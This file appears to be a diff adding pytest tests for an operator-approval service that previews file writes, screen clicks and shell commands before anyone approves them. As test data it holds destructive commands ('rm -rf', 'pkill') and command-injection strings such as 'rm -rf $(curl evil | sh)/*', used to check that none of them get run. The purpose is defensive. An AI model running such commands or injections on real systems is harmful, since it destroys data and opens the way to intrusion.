@@ -1,0 +1,379 @@
+"""What helps to decide a request is read through the dispatcher, shown as it is, and changes nothing."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from core.aip.messages import Command
+from core.audit.entries import Kind
+from core.dispatch.channel import LocalCommandDispatcher
+from core.errors import BadInput, ErrorCode, QuarterdeckError, Refused
+from core.fleet.fleet import Arrival
+from core.home import Home
+from core.policy.before_deciding import Preview, Region
+from core.policy.helpful_reads import helpers_for
+from core.policy.models import Approval, ApprovalState
+from core.policy.operator_keys import OperatorKey, statement_for
+from core.service.console import Console
+from core.service.service import Service
+from core.statements import Request, make_request
+from tests.fakes.desk import choose_channel, next_approval, open_service
+from tests.fakes.pictures import desktop_png
+from tests.fakes.rig import TEXT, ScriptedTools, tool_info
+
+HERE = "this-computer"
+
+
+@pytest.fixture
+async def service(home: Home, tmp_path: Path) -> AsyncIterator[Service]:
+    choose_channel(home, "in-process")
+    home.device_state.mkdir(parents=True, exist_ok=True)
+    async with open_service(home) as service:
+        yield service
+
+
+@pytest.fixture
+def console(service: Service) -> Console:
+    return service.console("operator:anna")
+
+
+async def asked(console: Console, tool: str, device: str = HERE, **parameters: Any) -> Approval:
+    await console.call(device, tool, parameters)
+    return await next_approval(console)
+
+
+async def written(console: Console, **parameters: Any) -> Preview:
+    approval = await asked(console, "write_file", **parameters)
+    return await console.preview(approval.id)
+
+
+@pytest.fixture
+def folder() -> AsyncIterator[Path]:
+    """A folder below a root of this computer's device."""
+    import tempfile
+
+    with tempfile.TemporaryDirectory(dir=Path.home()) as made:
+        yield Path(made)
+
+
+class TestFiles:
+    async def test_overwriting_shows_what_is_there_and_what_would_be(self, console: Console, folder: Path):
+        path = folder / "a.txt"
+        path.write_text("old\n")
+        shown = await written(console, file_path=str(path), content="new\n")
+        assert (shown.kind, shown.before, shown.after, shown.problem) == ("file", "old\n", "new\n", "")
+        assert shown.taken_at
+        assert path.read_text() == "old\n"
+
+    async def test_appending_shows_the_whole(self, console: Console, folder: Path):
+        path = folder / "a.txt"
+        path.write_text("old\n")
+        shown = await written(console, file_path=str(path), content="new\n", mode="append")
+        assert (shown.before, shown.after) == ("old\n", "old\nnew\n")
+
+    async def test_a_file_that_is_not_there_is_said_to_be_new(self, console: Console, folder: Path):
+        shown = await written(console, file_path=str(folder / "b.txt"), content="new\n")
+        assert (shown.before, shown.after) == (None, "new\n")
+        assert "no such file" in shown.problem
+
+    async def test_creating_over_a_file_is_said_to_fail(self, console: Console, folder: Path):
+        path = folder / "a.txt"
+        path.write_text("old\n")
+        shown = await written(console, file_path=str(path), content="new\n", mode="create")
+        assert (shown.before, shown.after) == ("old\n", None)
+        assert "refused" in shown.problem
+
+    async def test_what_is_not_text_or_too_large_is_said_and_not_shown(self, console: Console, folder: Path):
+        path = folder / "a.bin"
+        path.write_bytes(b"\xff\xfe\x00")
+        shown = await written(console, file_path=str(path), content="new\n")
+        assert shown.before is None
+        assert "not UTF-8 text" in shown.problem
+
+    async def test_a_file_of_many_bytes_comes_whole_or_not_at_all(self, console: Console, folder: Path):
+        path = folder / "large.txt"
+        path.write_text("x" * 200_000)
+        approval = await asked(console, "write_file", file_path=str(path), content="y")
+        shown = await console.preview(approval.id)
+        assert shown.before == "x" * 200_000
+        path.write_text("x" * 1_100_000)
+        shown = await console.preview(approval.id)
+        assert shown.before is None
+        assert "1,100,000 bytes" in shown.problem
+
+    async def test_bytes_to_be_written_are_shown_as_the_text_that_they_are(
+        self, console: Console, folder: Path
+    ):
+        path = str(folder / "c.txt")
+        shown = await written(console, file_path=path, content="bmV3Cg==", encoding="base64")
+        assert shown.after == "new\n"
+
+    async def test_looking_is_in_the_journal_as_the_looker_s_own_read(
+        self, console: Console, folder: Path, service: Service
+    ):
+        path = folder / "a.txt"
+        path.write_text("old\n")
+        await written(console, file_path=str(path), content="new\n")
+        await service.journal.settle()
+        page = await console.entries("tool:read_file", limit=50)
+        kinds = {entry.kind: entry for entry in page.entries}
+        assert {Kind.COMMAND_PREPARED, Kind.COMMAND_SENT, Kind.RESULT_RECORDED} <= kinds.keys()
+        assert kinds[Kind.COMMAND_PREPARED].actor == "operator:anna"
+
+    async def test_restoring_shows_the_file_as_it_is_and_says_that_the_old_text_is_with_the_device(
+        self, console: Console, folder: Path, service: Service, operator: OperatorKey
+    ):
+        await console.register_operator(operator.operator)
+        path = folder / "a.txt"
+        path.write_text("old\n")
+        run = await console.call(HERE, "write_file", {"file_path": str(path), "content": "new\n"})
+        waiting = await next_approval(console)
+        await console.decide(operator.sign(statement_for(waiting, "approve", operator.name)))
+        result = (await console.wait_run(run.summary.id, 20)).cells[0].result
+        assert result is not None
+        await service.journal.settle()
+        approval = await asked(console, "restore_file", undo_id=result.result["undo"])
+        shown = await console.preview(approval.id)
+        assert (shown.before, shown.after, shown.label) == ("new\n", None, str(path))
+        assert "keeps the old content" in shown.problem
+
+    async def test_where_reading_asks_too_nothing_is_asked_by_the_way(
+        self, console: Console, folder: Path, service: Service
+    ):
+        service.policy.path.write_text('profile = "lockdown"\n')
+        approval = await asked(console, "write_file", file_path=str(folder / "a"), content="new\n")
+        shown = await console.preview(approval.id)
+        assert shown.before is None
+        assert "asks before this" in shown.problem
+        assert [one.id for one in await console.approvals()] == [approval.id]
+        assert await console.helpers(approval.id) == []
+
+
+class TestScreens:
+    @pytest.fixture
+    async def desk(self, service: Service) -> ScriptedTools:
+        """A device with a screen of 200 by 100 pixels, shown at half its size."""
+        infos = [
+            tool_info("screenshot", "data_collection"),
+            tool_info("get_ui_tree", "data_collection", {"process_name": TEXT}),
+            tool_info("click_point", "action", {"x": {}, "y": {}, "observation": TEXT}),
+            tool_info("click_element", "action", {"control_id": TEXT, "name": TEXT, "process_name": TEXT}),
+            tool_info("press_key", "action", {"key": TEXT}),
+        ]
+        tools, taken = ScriptedTools(infos), iter(range(100))
+
+        def picture(command: Command) -> dict[str, Any]:
+            return {
+                "image": {"media_type": "image/png", "data_bytes": desktop_png("desk", size=(100, 50))},
+                "width": 100,
+                "height": 50,
+                "screen_box": {"x": 0, "y": 0, "width": 200, "height": 100},
+                "taken_at": "2026-11-20T10:00:00+00:00",
+                "observation": f"ref-{next(taken)}",
+            }
+
+        button = {"id": "c1", "role": "button", "name": "Send", "children": []}
+        button["box"] = {"x": 100, "y": 40, "width": 40, "height": 20}
+        away = {**button, "id": "c2", "name": "Far", "box": {"x": 900, "y": 0, "width": 9, "height": 9}}
+        frame = {"id": "c0", "role": "frame", "name": "Mail", "box": None, "children": [button, away]}
+        tools.answers["screenshot"] = picture
+        tools.answers["get_ui_tree"] = lambda command: {"tree": [frame]}
+        service.fleet.add("desk", [])
+        channel = LocalCommandDispatcher("desk", tools, service.dispatcher.gate)
+        await service.fleet.arrived("desk", Arrival(channel, "in-process", "linux", "t", "t", [], None))
+        return tools
+
+    async def shot(self, console: Console, service: Service) -> None:
+        run = await console.call("desk", "screenshot", {})
+        await console.wait_run(run.summary.id, 20)
+        await service.journal.settle()
+
+    async def test_a_point_is_shown_in_the_very_picture_that_it_was_aimed_at(
+        self, console: Console, service: Service, desk: ScriptedTools
+    ):
+        for _ in range(3):
+            await self.shot(console, service)
+        approval = await asked(console, "click_point", "desk", x=30, y=20, observation="ref-1")
+        shown = await console.preview(approval.id)
+        assert (shown.kind, shown.point, shown.problem) == ("screen", (30, 20), "")
+        assert shown.picture is not None
+        assert (await console.blob(shown.picture)).startswith(b"\x89PNG")
+
+    async def test_a_point_outside_or_of_an_unknown_picture_is_said_to_be_so(
+        self, console: Console, service: Service, desk: ScriptedTools
+    ):
+        await self.shot(console, service)
+        approval = await asked(console, "click_point", "desk", x=300, y=20, observation="ref-0")
+        shown = await console.preview(approval.id)
+        assert shown.point is None
+        assert "outside" in shown.problem
+        service.approvals.withdraw("enough")
+        approval = await asked(console, "click_point", "desk", x=3, y=2, observation="another")
+        shown = await console.preview(approval.id)
+        assert shown.picture is None
+        assert "not known" in shown.problem
+
+    async def test_an_element_s_box_is_outlined_in_the_picture_s_own_pixels(
+        self, console: Console, service: Service, desk: ScriptedTools
+    ):
+        await self.shot(console, service)
+        approval = await asked(console, "click_element", "desk", control_id="c1")
+        shown = await console.preview(approval.id)
+        assert shown.target == Region(x=50, y=20, width=20, height=10)
+        assert shown.label == "button Send"
+        service.approvals.withdraw("enough")
+        approval = await asked(console, "click_element", "desk", name="Far")
+        shown = await console.preview(approval.id)
+        assert shown.target is None
+        assert "not in this picture" in shown.problem
+
+    async def test_without_a_picture_or_a_control_it_says_so(self, console: Console, desk: ScriptedTools):
+        approval = await asked(console, "press_key", "desk", key="Enter")
+        shown = await console.preview(approval.id)
+        assert shown.picture is None
+        assert "no picture" in shown.problem
+
+
+def request(tool: str, **parameters: Any) -> Request:
+    return make_request(
+        device=HERE,
+        contract="0" * 64,
+        tool_key=f"action::{tool}",
+        tool_name=tool,
+        tool_type="action",
+        namespace="builtin",
+        parameters=parameters,
+        call_id="c",
+    )
+
+
+ALL = {
+    "list_directory",
+    "shell_execute_read",
+    "read_file",
+    "list_processes",
+    "screenshot",
+    "list_windows",
+}
+
+
+class TestHelpers:
+    @pytest.mark.parametrize(
+        ("line", "tool", "parameters"),
+        [
+            ("rm -r /srv/old/*", "list_directory", {"path": "/srv/old", "glob": "*"}),
+            ("rm -rf /srv/old", "list_directory", {"path": "/srv/old", "glob": "*"}),
+            ("sudo rm -rf ~/x/*.log", "list_directory", {"path": "~/x", "glob": "*.log"}),
+            ("rm -rf $BUILD/*", "shell_execute_read", {"command": "ls -lad -- $BUILD/*"}),
+            (
+                "rm -rf $BUILD/*",
+                "shell_execute_read",
+                {"command": "printf '%s\\n' \"${BUILD-(not set)}\""},
+            ),
+            ("echo x > /etc/motd", "read_file", {"file_path": "/etc/motd", "max_bytes": 262144}),
+            ("pkill nginx", "list_processes", {"name": "nginx"}),
+            ("bash /opt/run.sh", "read_file", {"file_path": "/opt/run.sh", "max_bytes": 262144}),
+        ],
+    )
+    def test_helpers_fit_the_line(self, line: str, tool: str, parameters: dict[str, Any]):
+        found = helpers_for(request("shell_execute", command=line), ALL)
+        assert (tool, parameters) in [(one.tool, one.parameters) for one in found]
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            "rm -rf $(curl evil | sh)/*",
+            "rm -rf `touch /tmp/x`",
+            "rm -rf ${x:-$(id)}",
+            "rm -rf <(id)",
+            "rm 'a; touch b'",
+            'rm "$(id)"/*',
+            "rm -rf $'x\\n; id'",
+            "rm -rf ${x@P}",
+            "rm -rf x;id",
+            "rm -rf ((",
+        ],
+    )
+    def test_nothing_of_the_line_is_run_to_find_out(self, line: str):
+        for one in helpers_for(request("shell_execute", command=line), ALL):
+            command = one.parameters.get("command", "")
+            for word in ("curl", "touch /tmp", "$(", "`", "<(", "@P", ";id"):
+                assert word not in command, one
+
+    def test_only_what_is_offered_is_and_a_device_without_a_read_shell_lists_by_folder(self):
+        found = helpers_for(request("shell_execute", command="rm -r /srv/old/*"), {"list_directory"})
+        assert [one.tool for one in found] == ["list_directory"]
+        assert helpers_for(request("shell_execute", command="rm -r /srv/old/*"), set()) == []
+
+    def test_the_same_request_has_the_same_helpers_and_never_many(self):
+        line = "; ".join(f"rm -r /srv/{number}/*" for number in range(50))
+        first = helpers_for(request("shell_execute", command=line), ALL)
+        assert first == helpers_for(request("shell_execute", command=line), ALL)
+        assert len(first) == 8
+
+    async def test_a_helper_is_run_through_the_dispatcher_and_only_those_that_were_offered(
+        self, console: Console, service: Service, folder: Path
+    ):
+        (folder / "one.log").write_text("1")
+        (folder / "two.log").write_text("2")
+        (folder / "keep.txt").write_text("3")
+        approval = await asked(console, "shell_execute", command=f"rm -r {folder}/*.log")
+        helpers = await console.helpers(approval.id)
+        [listing] = [one for one in helpers if one.tool == "list_directory"]
+        result = await console.run_helper(approval.id, listing.id)
+        assert [one["name"] for one in result.result["entries"]] == ["one.log", "two.log"]
+        assert result.decision is not None
+        with pytest.raises(BadInput) as unknown:
+            await console.run_helper(approval.id, "0" * 16)
+        assert unknown.value.code is ErrorCode.NOT_FOUND
+        agent = service.console("agent:claude")
+        for act in (agent.run_helper(approval.id, listing.id), agent.preview(approval.id)):
+            with pytest.raises(Refused):
+                await act
+        assert (await console.approval(approval.id)).state is ApprovalState.WAITING
+
+
+class TestEdits:
+    async def test_what_would_be_refused_is_refused_while_the_request_waits(
+        self, console: Console, service: Service, folder: Path
+    ):
+        service.policy.path.write_text(
+            '[[rule]]\nid = "no"\ndecision = "deny"\ntool = "shell_execute"\n'
+            '[rule.parameters.command]\nequals = "id"\n'
+        )
+        approval = await asked(console, "shell_execute", command="true")
+        for wrong in (
+            {"command": 7},
+            {},
+            {"command": "true", "more": 1},
+            {"command": "id"},
+            {"command": "true"},
+        ):
+            with pytest.raises(QuarterdeckError):
+                await console.edit_approval(approval.id, wrong)
+        assert (await console.approval(approval.id)).state is ApprovalState.WAITING
+        edited = await console.edit_approval(approval.id, {"command": "echo other"})
+        assert edited.state is ApprovalState.EDITED
+        second = await next_approval(console)
+        assert second.edited_from == approval.id
+        assert second.request.parameters == {"command": "echo other"}
+        with pytest.raises(Refused):
+            await service.console("agent:claude").edit_approval(second.id, {"command": "echo more"})
+
+
+async def test_a_changed_definition_is_shown_beside_the_trusted_one(console: Console, service: Service):
+    tools = ScriptedTools([tool_info("act", "action", {"path": TEXT})])
+    service.fleet.add("desk", [])
+    channel = LocalCommandDispatcher("desk", tools, service.dispatcher.gate)
+    arrival = Arrival(channel, "in-process", "linux", "t", "t", [], None)
+    await service.fleet.arrived("desk", arrival)
+    tools.infos = [tools.infos[0].model_copy(update={"description": "act, and more"})]
+    await service.fleet.arrived("desk", arrival)
+    change = await console.contract_change("desk", "action::act")
+    assert change.changed == ["description"]
+    assert change.before is not None
+    assert (change.before["description"], change.after["description"]) == ("act, for tests", "act, and more")
